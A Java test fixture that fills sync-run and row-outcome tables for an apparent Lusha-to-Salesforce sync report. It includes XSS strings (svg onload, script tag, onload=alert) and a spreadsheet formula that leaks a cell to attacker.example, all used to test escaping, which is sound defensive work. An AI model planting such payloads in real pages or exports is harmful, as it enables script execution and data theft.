package com.revealsync.report;

import java.time.LocalDateTime;
import javax.sql.DataSource;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Inserts runs and row outcomes straight into the app tables, as the sync job records them.
 * {@link #messyNightlySync} is a small but messy nightly batch: every outcome, our skip codes and
 * Salesforce's status codes, a row that could not be parsed, warnings, two files with different
 * columns, and values crafted to attack a spreadsheet or a browser.
 */
final class OutcomeFixtures {

    static final String FILE_1 = "inbox/reveals-2025-06-02.csv";
    static final String FILE_2 = "inbox/reveals-2025-06-02b.csv";
    static final String ALICE = "alice@acme.example";
    static final String BOB = "bob@acme.example";
    static final String CAROL = "carol@acme.example";
    /** A Lusha user value that tries to break out of an HTML attribute and run script. */
    static final String EVIL_USER = "x\"><svg onload=\"document.documentElement.setAttribute('data-pwned','user')\">";
    /** A source value that tries to inject a script element into the page. */
    static final String EVIL_TITLE = "<script>document.documentElement.setAttribute('data-pwned','title')</script>";
    /** A Lusha id that tries to add an event handler attribute. */
    static final String EVIL_LUSHA_ID = "\"onload=alert(1)//";
    static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for details\")";

    private final JdbcTemplate jdbc;

    OutcomeFixtures(DataSource dataSource) {
        this.jdbc = new JdbcTemplate(dataSource);
    }

    OutcomeFixtures run(long runId, String job, String status, LocalDateTime started, String target) {
        jdbc.update("INSERT INTO sync_run (run_id, job_name, status, started_at, finished_at, target) VALUES (?,?,?,?,?,?)",
                runId, job, status, started, started.plusMinutes(4), target);
        return this;
    }

    OutcomeFixtures row(long runId, String file, long line, String lushaId, String user, String type, String outcome,
                        String code, String message, String fields, String warningsJson, String sourceJson) {
        jdbc.update("INSERT INTO row_outcome (run_id, source_file, line_no, lusha_id, revealed_by, record_type, outcome,"
                        + " salesforce_id, code, message, fields, warnings_json, source_json, recorded_at)"
                        + " VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                runId, file, line, lushaId, user, type, outcome,
                outcome.equals("CREATED") || outcome.equals("UPDATED") ? "00Q000000000" + String.format("%03dAAA", line) : null,
                code, message, fields, warningsJson, sourceJson, LocalDateTime.of(2025, 6, 2, 2, 3));
        return this;
    }

    /** Run 7: the messy batch. Its SKIPPED and FAILED rows are listed in {@link #RUN_7_ERRORS}. */
    OutcomeFixtures messyNightlySync() {
        run(7, "nightlySync", "COMPLETED", LocalDateTime.of(2025, 6, 2, 2, 0), "embedded org http://127.0.0.1:8443");
        row(7, FILE_1, 2, "L-1001", ALICE, "Lead", "CREATED", null, null, null,
                "[{\"code\":\"FIELD_TYPE_MISMATCH\",\"field\":\"NumberOfEmployees\",\"message\":\"'about 50' is not a number\"}]",
                source("L-1001", "Ada", "Lovelace", "Analytical Engines", "about 50", "CTO"));
        row(7, FILE_1, 3, "L-1002", ALICE, "Lead", "UPDATED", null, null, null, null,
                source("L-1002", "Grace", "Hopper", "Navy", "500", "Rear Admiral"));
        row(7, FILE_1, 4, "L-1003", BOB, "Lead", "SKIPPED", "REQUIRED_FIELD_MISSING",
                "Required fields are missing: [Company]", "Company", null,
                source("L-1003", "Alan", "Turing", "", "", "Researcher"));
        row(7, FILE_1, 5, "L-1004", BOB, "Contact", "FAILED", "DUPLICATES_DETECTED", "Use one of these records?", null,
                null, source("L-1004", "Edsger", "Dijkstra", "TU Eindhoven", "100", "Professor"));
        row(7, FILE_1, 6, "L-1005", CAROL, "Lead", "SKIPPED", "RECONNECT_REQUIRED",
                "Salesforce connection of carol@acme.example needs to be reconnected", null, null,
                source("L-1005", "Barbara", "Liskov", "MIT", "", "Professor"));
        row(7, FILE_1, 7, "L-1006", ALICE, "Lead", "UNCHANGED", null, null, null, null,
                source("L-1006", "Donald", "Knuth", "Stanford", "", "Professor"));
        row(7, FILE_1, 8, null, null, null, "SKIPPED", "INVALID_ROW", "expected 6 columns, found 3", null, null,
                "[\"L-1007\",\"broken \\\"quote\",\"x\"]");
        row(7, FILE_1, 9, "L-1008", BOB, "Lead", "FAILED", "FIELD_CUSTOM_VALIDATION_EXCEPTION", HYPERLINK, "Title", null,
                source("L-1008", "+1", "@SUM(A1:A9)", "-2", "", EVIL_TITLE));
        row(7, FILE_1, 10, EVIL_LUSHA_ID, EVIL_USER, "Lead", "SKIPPED", "STRING_TOO_LONG",
                "Title: data value too large: " + EVIL_TITLE + " (max length=128)", "Title", null,
                source(EVIL_LUSHA_ID, "Hubert", "Wolfe", "Acme", "12", EVIL_TITLE));
        row(7, FILE_2, 2, "L-2001", CAROL, "Contact", "SKIPPED", "RECONNECT_REQUIRED",
                "Salesforce connection of carol@acme.example needs to be reconnected", null, null,
                "{\"Lusha ID\":\"L-2001\",\"First Name\":\"Frances\",\"Last Name\":\"Allen\",\"Notes\":\"met at conf\"}");
        row(7, FILE_2, 3, "L-2002", ALICE, "Contact", "FAILED", "UNABLE_TO_LOCK_ROW",
                "unable to obtain exclusive access to this record or 1 records: 001000000000001AAA", null,
                "[{\"code\":\"FIELD_TYPE_MISMATCH\",\"field\":\"AnnualRevenue\",\"message\":\"'n/a' is not a number\"}]",
                "{\"Lusha ID\":\"L-2002\",\"First Name\":\"Margaret\",\"Last Name\":\"Hamilton\",\"Notes\":\"=1+1\"}");
        row(7, FILE_2, 4, "L-2003", ALICE, "Contact", "CREATED", null, null, null, null,
                "{\"Lusha ID\":\"L-2003\",\"First Name\":\"Katherine\",\"Last Name\":\"Johnson\",\"Notes\":\"\"}");
        return this;
    }

    /** The (file, line, outcome, code) of run 7's SKIPPED and FAILED rows, in file and line order. */
    static final java.util.List<String> RUN_7_ERRORS = java.util.List.of(
            FILE_1 + ":4 SKIPPED REQUIRED_FIELD_MISSING",
            FILE_1 + ":5 FAILED DUPLICATES_DETECTED",
            FILE_1 + ":6 SKIPPED RECONNECT_REQUIRED",
            FILE_1 + ":8 SKIPPED INVALID_ROW",
            FILE_1 + ":9 FAILED FIELD_CUSTOM_VALIDATION_EXCEPTION",
            FILE_1 + ":10 SKIPPED STRING_TOO_LONG",
            FILE_2 + ":2 SKIPPED RECONNECT_REQUIRED",
            FILE_2 + ":3 FAILED UNABLE_TO_LOCK_ROW");

    /** Runs 6 and 8, before and after run 7, with errors of their own that a run-7 report must not show. */
    OutcomeFixtures otherRuns() {
        run(6, "nightlySync", "COMPLETED", LocalDateTime.of(2025, 6, 1, 2, 0), "https://acme.my.salesforce.com");
        row(6, "inbox/reveals-2025-06-01.csv", 2, "L-0901", ALICE, "Lead", "FAILED", "DUPLICATE_VALUE",
                "duplicate value found: Lusha_Id__c duplicates value on record with id: 00Q000000000999", "Lusha_Id__c",
                null, source("L-0901", "Old", "Row", "Acme", "", ""));
        row(6, "inbox/reveals-2025-06-01.csv", 3, "L-0902", ALICE, "Lead", "CREATED", null, null, null, null,
                source("L-0902", "Fine", "Row", "Acme", "", ""));
        run(8, "linkedinBackfill", "COMPLETED", LocalDateTime.of(2025, 6, 3, 9, 30), "https://acme.my.salesforce.com");
        row(8, "backfill", 2, "L-1001", ALICE, "Lead", "SKIPPED", "API_BUDGET_EXCEEDED",
                "API usage passed 80% of the daily limit", null, null, null);
        return this;
    }

    private static String source(String lushaId, String first, String last, String company, String employees,
                                 String title) {
        return "{\"Lusha ID\":" + json(lushaId) + ",\"First Name\":" + json(first) + ",\"Last Name\":" + json(last)
                + ",\"Company Name\":" + json(company) + ",\"Number of Employees\":" + json(employees)
                + ",\"Job title\":" + json(title) + "}";
    }

    private static String json(String value) {
        return tools.jackson.databind.json.JsonMapper.builder().build().writeValueAsString(value);
    }
}
